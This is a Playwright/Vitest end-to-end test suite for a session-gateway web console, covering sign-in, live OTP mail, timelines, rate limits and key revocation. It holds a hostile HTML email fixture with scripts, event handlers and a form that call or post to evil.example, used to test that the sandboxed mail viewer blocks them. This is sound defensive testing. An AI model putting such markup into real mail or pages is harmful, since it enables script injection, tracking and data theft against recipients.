import { mkdirSync, readFileSync } from 'node:fs';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSession } from '../sessions/helpers';
import { launchChromium, seriousAxeViolations } from '../support/chromium';
import { startServer, type TestServer } from '../support/server';
import { ARTIFACTS, buildConsole, expectNoHorizontalScroll, type RecordingProxy, screenshot, smtpTransport, startRecordingProxy } from './helpers';

/** Everything a mail can try: scripts, handlers, remote loads of every kind, a form, a refresh. */
const HOSTILE_HTML = `<html><head>
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<base href="http://evil.example/">
<link rel="stylesheet" href="http://evil.example/style.css">
<link rel="prefetch" href="http://evil.example/prefetch">
<style>@import url(http://evil.example/import.css); h2 { background: url(http://evil.example/bg.png) }</style>
<script>document.title = 'pwned'; parent.postMessage('pwned', '*'); fetch('http://evil.example/script'); alert('script')</script>
<script src="http://evil.example/external.js"></script>
<script src="https://evil.example/secure.js"></script>
</head><body onload="fetch('http://evil.example/onload'); alert('onload')">
<h1>Hostile</h1><h2>styled</h2>
<img src="http://tracker.example/pixel.gif" alt="tracking pixel">
<img src="broken" onerror="fetch('http://evil.example/onerror'); parent.postMessage('onerror', '*')" alt="broken">
<img src="//evil.example/protocol-relative.png" alt="">
<form action="http://evil.example/form" method="post"><input name="q" value="secret"><button id="submit">Send</button></form>
<iframe src="http://evil.example/frame"></iframe>
<object data="http://evil.example/object"></object>
<video src="http://evil.example/video.mp4" autoplay></video>
<svg><image href="http://evil.example/svg.png"/></svg>
<a href="javascript:alert('link')">a link</a>
</body></html>`;

/**
 * The web console end to end: Debian's Chromium against a real server (real SQLite database, real SMTP),
 * the console built as `npm run build` builds it. Screenshots land in test-artifacts/console/.
 */
describe('web console (/console) in Chromium', () => {
  let s: TestServer;
  let browser: Browser;
  let proxy: RecordingProxy;

  beforeAll(async () => {
    buildConsole();
    mkdirSync(ARTIFACTS, { recursive: true });
    s = await startServer({ smtp: true });
    proxy = await startRecordingProxy();
    browser = await launchChromium({ proxy: proxy.server });
  }, 180_000);
  afterAll(async () => {
    await browser?.close();
    await proxy?.close();
    await s?.close();
  });

  /** A page, the requests for other hosts made since it opened (see startRecordingProxy) and its errors. */
  async function openPage(width = 1440, height = 900): Promise<{ page: Page; foreign: () => string[]; errors: string[] }> {
    const page = await browser.newPage({ viewport: { width, height }, permissions: ['clipboard-read', 'clipboard-write'] });
    page.setDefaultTimeout(15_000);
    const since = proxy.hits.length;
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(String(e)));
    return { page, foreign: () => proxy.hits.slice(since), errors };
  }

  async function signIn(page: Page, key: string): Promise<void> {
    await page.getByLabel('API key').fill(key);
    await page.getByRole('button', { name: 'Sign in' }).click();
  }

  async function expectAccessible(page: Page, what: string): Promise<void> {
    expect(await seriousAxeViolations(page), `axe on ${what}`).toEqual([]);
  }

  it('serves the app for deep links, with hashed assets, offline', async () => {
    const deep = await fetch(`${s.url}/console/sessions/sess_whatever`, { headers: { accept: 'text/html' } });
    expect(deep.status).toBe(200);
    expect(deep.headers.get('content-type')).toMatch(/^text\/html/);
    // The page may show remote images (only in a mail's frame, whose own CSP blocks them until asked);
    // everything else stays as strict as the rest of the server.
    const csp = deep.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("img-src 'self' data: https: http:");
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("default-src 'self'");
    const html = await deep.text();
    expect(html).toContain('<title>sessions-gateway console</title>');
    expect(html).not.toMatch(/(?:src|href)\s*=\s*["']?(?:https?:)?\/\//i); // nothing from another host
    const assets = [...html.matchAll(/(?:src|href)="(\/console\/assets\/[^"]+)"/g)].map((m) => m[1]!);
    expect(assets.length).toBeGreaterThanOrEqual(2);
    for (const asset of assets) {
      const res = await fetch(s.url + asset);
      expect(res.status, asset).toBe(200);
      expect(res.headers.get('cache-control'), asset).toContain('immutable');
    }
    const missing = await fetch(`${s.url}/console/assets/nope.js`);
    expect(missing.status).toBe(404);
    expect((await fetch(`${s.url}/console`)).status).toBe(200);
  });

  it('signs in, shows a new session live, the OTP arriving over SMTP, completes it, shows the timeline and replay', async () => {
    const { page, foreign, errors } = await openPage();
    await page.goto(`${s.url}/console`);
    await page.getByRole('heading', { name: 'Sign in' }).waitFor();
    await expect(page.title()).resolves.toBe('Sign in · sessions-gateway console');
    await expectAccessible(page, 'sign-in');

    // A wrong key is refused in words and not kept.
    await signIn(page, 'sgk_not_a_real_key');
    await page.getByText('This API key was not accepted').waitFor();
    expect(await page.evaluate('sessionStorage.length')).toBe(0);

    await page.getByLabel('API key').fill('');
    await signIn(page, s.apiKey);
    await page.getByRole('heading', { name: 'Sessions' }).waitFor();
    await page.getByText('No sessions yet').waitFor();
    await screenshot(page, '01-sessions-empty');
    await expectAccessible(page, 'empty session list');

    // The key lives in sessionStorage only: never in the URL, never in localStorage.
    const storage = (await page.evaluate('({ session: Object.values({ ...sessionStorage }), local: localStorage.length, url: location.href })')) as {
      session: string[];
      local: number;
      url: string;
    };
    expect(storage.session).toEqual([s.apiKey]);
    expect(storage.local).toBe(0);
    expect(storage.url).not.toContain(s.apiKey);

    // Marks this document: if the page reloaded, the mark would be gone.
    await page.evaluate(() => ((globalThis as unknown as { consoleMark: number }).consoleMark = 42));

    // The list is live over the socket (graphql-ws): a session created through the API appears without reloading.
    await page.locator('.live-status', { hasText: 'Live' }).waitFor();
    const session = await createSession(s, { name: 'user-signup-flow', metadata: { environment: 'staging' } });
    const row = page.getByRole('row', { name: /user-signup-flow/ });
    await row.waitFor();
    await expect(row.innerText()).resolves.toMatch(/active/);
    await screenshot(page, '02-sessions-live');
    await expectAccessible(page, 'session list');

    // Its page, live: an inbox and an OTP wait appear, then the mail's code in the wait card.
    await page.getByRole('link', { name: 'user-signup-flow' }).click();
    await page.getByRole('heading', { name: /user-signup-flow/ }).waitFor();
    await expect(page.title()).resolves.toBe('user-signup-flow (active) · sessions-gateway console');
    await expect.poll(() => page.evaluate('document.activeElement?.id')).toBe('main'); // focus moved to the new page
    await page.getByText('No inboxes yet').waitFor();
    await page.locator('.live-status', { hasText: 'Live' }).waitFor();
    await page.getByText('No recorded steps yet').waitFor();

    // Live means pushed, not polled: while nothing happens, the page asks the API nothing.
    const posts: string[] = [];
    page.on('request', (r) => {
      if (r.method() === 'POST' && r.url().endsWith('/graphql')) posts.push(r.postData() ?? '');
    });
    await page.waitForTimeout(3000); // longer than the 2 s the console used to poll at
    expect(posts, 'GraphQL requests while nothing happened').toEqual([]);
    const inbox = (await s.request('POST', '/api/v1/inboxes', { body: { sessionId: session.id } })).body;
    const wait = (await s.request('POST', '/api/v1/waits', { body: { inboxId: inbox.id, type: 'otp', timeoutSeconds: 300 } })).body;
    await page.getByRole('heading', { name: inbox.emailAddress }).waitFor();
    await page.getByRole('heading', { name: 'OTP wait' }).waitFor();
    await expect(page.locator('.wait').innerText()).resolves.toMatch(/pending[\s\S]*Time left\s*\d+ min/);
    await expect(page.locator('.inbox').innerText()).resolves.toMatch(/TTL: (?:59 min|1 h)/);

    await smtpTransport(s.smtpPort!).sendMail({
      from: 'Acme <no-reply@acme.test>',
      to: inbox.emailAddress,
      subject: 'Your Acme sign-in code',
      text: 'Hello!\n\nYour verification code is 482913. It expires in 10 minutes.',
      html: '<p>Hello!</p><p>Your verification code is <b>482913</b>. It expires in 10 minutes.</p>',
    });
    const code = page.locator('.wait output.otp');
    await code.waitFor();
    await expect(code.innerText()).resolves.toBe('482913');
    await expect(page.locator('.wait .badge').innerText()).resolves.toBe('completed');
    await page.getByRole('button', { name: 'Copy the code' }).click();
    await page.getByRole('button', { name: 'Copied' }).first().waitFor();
    await expect(page.evaluate('navigator.clipboard.readText()')).resolves.toBe('482913');
    // Every request since the quiet interval was a read the session's events asked for, none a poll.
    expect(posts.length).toBeGreaterThan(0);
    for (const body of posts) expect(body).toMatch(/"operationName":"(?:Session|Replay)"/);
    await page.getByRole('button', { name: `Copy the address ${inbox.emailAddress}` }).waitFor();
    expect(await page.evaluate(() => (globalThis as unknown as { consoleMark?: number }).consoleMark)).toBe(42);
    await screenshot(page, '03-session-otp');
    await expectAccessible(page, 'session page');

    // Complete, behind a confirmation; cancelling first changes nothing.
    await page.getByRole('button', { name: 'Complete…' }).click();
    const dialog = page.getByRole('dialog', { name: 'Complete this session?' });
    await dialog.waitFor();
    await expectAccessible(page, 'confirmation dialog');
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await dialog.waitFor({ state: 'hidden' });
    expect((await s.request('GET', `/api/v1/sessions/${session.id}`)).body.status).toBe('active');
    await page.getByRole('button', { name: 'Complete…' }).click();
    await dialog.getByRole('button', { name: 'Complete session' }).click();
    await page.locator('.session-head .badge', { hasText: 'completed' }).waitFor();
    expect((await s.request('GET', `/api/v1/sessions/${session.id}`)).body.status).toBe('completed');
    await expect(page.getByRole('button', { name: 'Complete…' }).count()).resolves.toBe(0);

    // The timeline, in order, as the API has it.
    const timeline = page.getByRole('list', { name: 'Timeline events, oldest first' });
    await timeline.locator('li[data-type="session.completed"]').waitFor();
    const types = await timeline.locator('li').evaluateAll((lis) => lis.map((li) => li.getAttribute('data-type')));
    expect(types).toEqual(['session.created', 'inbox.created', 'wait.created', 'message.received', 'wait.completed', 'session.completed']);

    // The replay waterfall: one bar per recorded step, bar width following durationMs.
    const replay = (await s.request('POST', `/api/v1/sessions/${session.id}/replay`)).body;
    const steps = page.getByRole('list', { name: 'Replay steps' }).locator('li.step');
    await expect.poll(() => steps.count()).toBe(replay.steps.length);
    expect(replay.steps.map((st: { action: string }) => st.action)).toEqual(['create_inbox', 'create_wait', 'deliver_message', 'complete_session']);
    const bars = await page.locator('.waterfall .bar').evaluateAll((els) => els.map((el) => (el as unknown as { style: { width: string; left: string } }).style.width));
    expect(bars).toHaveLength(replay.steps.length);
    for (const w of bars) expect(parseFloat(w)).toBeGreaterThan(0);
    const longest = replay.steps.reduce((a: { durationMs: number }, b: { durationMs: number }) => (b.durationMs > a.durationMs ? b : a));
    expect(parseFloat(bars[replay.steps.indexOf(longest)]!)).toBe(Math.max(...bars.map(parseFloat)));
    const deliver = page.getByRole('button', { name: /deliver_message/ });
    await expect(deliver.getAttribute('aria-expanded')).resolves.toBe('false');
    await deliver.focus();
    await page.keyboard.press('Enter'); // by keyboard
    await expect(deliver.getAttribute('aria-expanded')).resolves.toBe('true');
    await expect(page.getByLabel('Input of step 3').innerText()).resolves.toContain(inbox.id);
    await expect(page.getByLabel('Output of step 3').innerText()).resolves.toContain(wait.id);
    await screenshot(page, '04-session-completed');
    await expectAccessible(page, 'completed session with an expanded step');

    // The same page at 360 px, and in the dark theme.
    await page.setViewportSize({ width: 360, height: 780 });
    await expectNoHorizontalScroll(page);
    await screenshot(page, '05-session-360px');
    await page.emulateMedia({ colorScheme: 'dark' });
    const background = await page.evaluate('getComputedStyle(document.body).backgroundColor');
    expect(background).toBe('rgb(17, 19, 24)');
    await expectAccessible(page, 'dark theme');
    await screenshot(page, '06-session-360px-dark');
    await page.emulateMedia({ colorScheme: 'light' });
    await page.setViewportSize({ width: 1440, height: 900 });

    // The message: headers, HTML (sandboxed) and text.
    await page.getByRole('link', { name: 'Read the message' }).click();
    await page.getByRole('heading', { name: 'Your Acme sign-in code' }).waitFor();
    const headers = await page.getByLabel('Headers').innerText();
    expect(headers).toContain('"Acme" <no-reply@acme.test>');
    expect(headers).toContain(inbox.emailAddress);
    const frame = page.locator('iframe[title="HTML body of the message"]');
    await expect(frame.getAttribute('sandbox')).resolves.toBe('allow-popups allow-popups-to-escape-sandbox');
    await expect(page.frameLocator('iframe[title="HTML body of the message"]').locator('b').innerText()).resolves.toBe('482913');
    await screenshot(page, '07-message-html');
    await expectAccessible(page, 'message page');
    await page.getByRole('tab', { name: 'HTML' }).focus();
    await page.keyboard.press('ArrowRight');
    await expect(page.getByRole('tab', { name: 'Text' }).getAttribute('aria-selected')).resolves.toBe('true');
    await expect(page.getByLabel('Text body').innerText()).resolves.toContain('Your verification code is 482913');
    await page.setViewportSize({ width: 360, height: 780 });
    await expectNoHorizontalScroll(page);
    await screenshot(page, '08-message-text-360px');
    await page.setViewportSize({ width: 1440, height: 900 });

    // Back to the list: the session shows as completed with its counts.
    await page.getByRole('link', { name: 'Back to the session' }).click();
    await page.getByRole('link', { name: 'Sessions', exact: true }).first().click();
    const done = page.getByRole('row', { name: /user-signup-flow/ });
    await expect.poll(() => done.innerText()).toMatch(/completed[\s\S]*\b1\b[\s\S]*\b1\b/);
    await page.setViewportSize({ width: 360, height: 780 });
    await expectNoHorizontalScroll(page);
    await screenshot(page, '12-sessions-360px');
    await page.setViewportSize({ width: 1440, height: 900 });

    // Sign out forgets the key.
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByRole('heading', { name: 'Sign in' }).waitFor();
    expect(await page.evaluate('sessionStorage.length')).toBe(0);

    expect(errors).toEqual([]);
    expect(foreign()).toEqual([]);
    await page.close();
  });

  it('shows a hostile HTML mail without running or loading anything until images are asked for', async () => {
    const session = await createSession(s, { name: 'hostile-mail' });
    const inbox = (await s.request('POST', '/api/v1/inboxes', { body: { sessionId: session.id } })).body;
    await smtpTransport(s.smtpPort!).sendMail({
      from: 'attacker@evil.example',
      to: inbox.emailAddress,
      subject: 'Totally harmless',
      text: 'Nothing to see here',
      html: HOSTILE_HTML,
    });
    const message = (await s.request('GET', `/api/v1/inboxes/${inbox.id}/messages`)).body.data[0];

    const { page, foreign, errors } = await openPage();
    const requests: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await page.goto(`${s.url}/console/messages/${message.id}?session=${session.id}`);
    await signIn(page, s.apiKey);
    await page.getByRole('heading', { name: 'Totally harmless' }).waitFor();
    await page.evaluate(`addEventListener('message', (e) => { window.gotMessage = String(e.data); })`);
    const frame = page.frameLocator('iframe[title="HTML body of the message"]');
    await expect(frame.locator('h1').innerText()).resolves.toBe('Hostile');
    await page.getByText(/^2 remote images are blocked/).waitFor();

    // The frame's form cannot be sent (no allow-forms), whatever is clicked.
    await frame.locator('#submit').click();
    await page.waitForTimeout(1000); // anything the mail tried has had its chance
    expect(foreign()).toEqual([]);
    // Nor did anything reach this origin but the console's own GraphQL calls and files.
    const local = requests.filter((u) => u.startsWith(s.url));
    expect(local.filter((u) => !u.endsWith('/graphql') && !new URL(u).pathname.startsWith('/console/'))).toEqual([]);
    expect(local.filter((u) => u.endsWith('/broken'))).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(await page.evaluate('window.gotMessage ?? null')).toBeNull();
    await expect(page.title()).resolves.toBe('Totally harmless · sessions-gateway console');
    const mailFrame = page.frames().find((f) => f !== page.mainFrame());
    expect(mailFrame?.url()).toBe('about:srcdoc'); // no refresh, no navigation
    expect(errors).toEqual([]);
    await screenshot(page, '10-hostile-mail');
    await expectAccessible(page, 'hostile mail');

    // The reader asks for images: now (and only now) the images are fetched, still nothing else.
    await page.getByRole('button', { name: 'Load remote images' }).click();
    await page.getByText('Remote images are shown').waitFor();
    await expect.poll(() => foreign()).toContain('http://tracker.example/pixel.gif');
    await page.waitForTimeout(1000);
    for (const url of foreign()) expect(url, 'only images load').toMatch(/^http:\/\/(?:tracker|evil)\.example\/[\w-]+\.(?:gif|png)$/);
    expect(dialogs).toEqual([]);
    expect(await page.evaluate('window.gotMessage ?? null')).toBeNull();
    await page.close();
  });

  it('shows a multipart mail: every header, cc and reply-to, its attachment (downloaded), codes, links and raw source', async () => {
    const session = await createSession(s, { name: 'multipart-mail' });
    const inbox = (await s.request('POST', '/api/v1/inboxes', { body: { sessionId: session.id } })).body;
    const csv = 'name,code\nalice,731205\n';
    await smtpTransport(s.smtpPort!).sendMail({
      from: 'Acme <no-reply@acme.test>',
      to: inbox.emailAddress,
      cc: 'audit@acme.test',
      replyTo: 'support@acme.test',
      subject: 'Your report',
      headers: { 'X-Campaign': 'spring-report' },
      text: 'Your code is 731205. Verify at https://acme.test/verify?t=abc',
      html: '<p>Your code is <b>731205</b>. <a href="https://acme.test/verify?t=abc">Verify</a></p>',
      attachments: [{ filename: 'report.csv', content: csv, contentType: 'text/csv' }],
    });
    const message = (await s.request('GET', `/api/v1/inboxes/${inbox.id}/messages`)).body.data[0];

    const { page, foreign, errors } = await openPage();
    await page.goto(`${s.url}/console/messages/${message.id}?session=${session.id}`);
    await signIn(page, s.apiKey);
    await page.getByRole('heading', { name: 'Your report' }).waitFor();
    const rows = await page.getByLabel('Headers', { exact: true }).innerText();
    expect(rows).toContain('audit@acme.test');
    expect(rows).toContain('support@acme.test');
    expect(rows).toMatch(/Message-ID\s+<[^>]+>/);
    await page.getByText(/^All headers \(\d+\)$/).click();
    const all = await page.getByRole('table', { name: 'Header fields as received' }).innerText();
    expect(all).toMatch(/X-Campaign\s+spring-report/);
    expect(all).toMatch(/Content-Type\s+multipart\/mixed/);

    const attachment = page.locator('.attachments li', { hasText: 'report.csv' });
    await expect(attachment.innerText()).resolves.toMatch(/text\/csv · 2\d bytes/);
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download report.csv' }).click()]);
    expect(download.suggestedFilename()).toBe('report.csv');
    expect(readFileSync((await download.path())!, 'utf8')).toBe(csv);

    await expect(page.getByRole('list', { name: 'Codes' }).innerText()).resolves.toContain('731205');
    await expect(page.getByRole('list', { name: 'Links' }).innerText()).resolves.toContain('https://acme.test/verify?t=abc');
    await screenshot(page, '13-message-multipart');
    await expectAccessible(page, 'multipart message');

    await page.getByRole('tab', { name: 'Raw source' }).click();
    const raw = await page.getByLabel('Source of the message as received').innerText();
    expect(raw).toContain('Subject: Your report');
    expect(raw).toMatch(/Content-Type: multipart\/mixed/);
    expect(raw).toContain('filename=report.csv');
    await screenshot(page, '14-message-raw');
    await expectAccessible(page, 'raw source');
    expect(errors).toEqual([]);
    expect(foreign()).toEqual([]);
    await page.close();
  });

  it('says when the key is rate limited, and when to try again', async () => {
    const limited = await startServer({ env: { RATE_LIMIT_PER_MINUTE: '3' } });
    try {
      // The limit counts per wall-clock minute: a minute that ended mid-test gave the console three
      // more requests and no refusal to show (a flaky timeout under CI load). Start with 30 s or more left.
      const left = 60_000 - (Date.now() % 60_000);
      if (left < 30_000) await new Promise((r) => setTimeout(r, left + 100));
      await createSession(limited, { name: 'before-the-limit' }); // request 1 of 3
      const { page, errors } = await openPage();
      const graphqlCalls: number[] = [];
      page.on('request', (r) => r.url().endsWith('/graphql') && graphqlCalls.push(Date.now()));
      await page.goto(`${limited.url}/console`);
      // 2: the key check; 3: the list; the list's read once the event socket is open is refused.
      await signIn(page, limited.apiKey);
      await page.getByRole('row', { name: /before-the-limit/ }).waitFor();
      const notice = page.getByRole('alert').filter({ hasText: 'Too many requests' });
      await notice.waitFor();
      const refusedAt = Date.now();
      const retrySeconds = Number(/tries again in (\d+) s/.exec(await notice.innerText())?.[1]);
      expect(retrySeconds).toBeGreaterThan(0);
      // The last answer stays on screen, and the console waits out the limit instead of asking again
      // (the limit's window may end during the test: asking after the stated time is right).
      await expect(page.getByRole('row', { name: /before-the-limit/ }).count()).resolves.toBe(1);
      await page.waitForTimeout(3 * 2000);
      const early = graphqlCalls.filter((t) => t > refusedAt && t < refusedAt + (retrySeconds - 1) * 1000);
      expect(early, 'polls while rate limited').toEqual([]);
      await screenshot(page, '11-rate-limited');
      await expectAccessible(page, 'rate limited');
      expect(errors).toEqual([]);
      await page.close();
    } finally {
      await limited.close();
    }
  }, 90_000);

  it('says what is wrong: a session that does not exist, a key that stops working', async () => {
    const key = await s.app.services.apiKeys.create('carol');
    const { page, errors } = await openPage();
    await page.goto(`${s.url}/console/sessions/sess_doesnotexist0000000000`);
    await signIn(page, key);
    await page.getByText('This session was not found').waitFor();
    await page.getByRole('link', { name: 'Back to sessions' }).waitFor();
    await expectAccessible(page, 'not found');

    // Filter and paging: 23 failed sessions, 20 a page.
    for (let i = 0; i < 23; i++) {
      const created = await createSession(s, { name: `batch-${i}` }, key);
      await s.request('POST', `/api/v1/sessions/${created.id}/fail`, { body: { reason: `reason ${i}` }, key });
    }
    await page.getByRole('link', { name: 'Back to sessions' }).click();
    await page.getByLabel('Status').selectOption('failed');
    await page.getByText('1–20 of 23').waitFor();
    await page.getByRole('button', { name: 'Next' }).click();
    await page.getByText('21–23 of 23').waitFor();
    await expect(page.getByRole('row', { name: /batch-0/ }).innerText()).resolves.toContain('reason 0');
    await page.getByLabel('Status').selectOption('completed');
    await page.getByText('No sessions match this filter').waitFor();

    // Fail a session from its page, by keyboard: the reason is required and shown afterwards.
    const toFail = await createSession(s, { name: 'to-be-failed' }, key);
    await page.getByLabel('Status').selectOption('');
    await page.getByRole('link', { name: 'to-be-failed' }).click();
    await page.getByRole('button', { name: 'Fail…' }).click();
    const dialog = page.getByRole('dialog', { name: 'Fail this session?' });
    await dialog.waitFor();
    await page.keyboard.press('Escape'); // closes, nothing done
    await dialog.waitFor({ state: 'hidden' });
    await page.getByRole('button', { name: 'Fail…' }).click();
    await expect(dialog.getByRole('button', { name: 'Fail session' }).isDisabled()).resolves.toBe(true);
    await page.keyboard.type('OTP never arrived');
    await dialog.getByRole('button', { name: 'Fail session' }).click();
    await page.getByText('Failure reason: OTP never arrived').waitFor();
    expect((await s.request('GET', `/api/v1/sessions/${toFail.id}`, { key })).body.status).toBe('failed');
    await expectAccessible(page, 'failed session');

    // The key is revoked while the list is open: the server closes its event socket (4401), and the page
    // says so, with a way to sign in again. (An ended session's page has no feed left to close.)
    await page.getByRole('link', { name: 'Sessions', exact: true }).first().click();
    await page.locator('.live-status', { hasText: 'Live' }).waitFor();
    expect(await s.app.services.apiKeys.revoke(key.slice(0, 12))).toBe(1);
    await page.getByText('This API key was not accepted').waitFor();
    await screenshot(page, '09-key-rejected');
    expect(errors).toEqual([]);
    await page.close();
  });
});
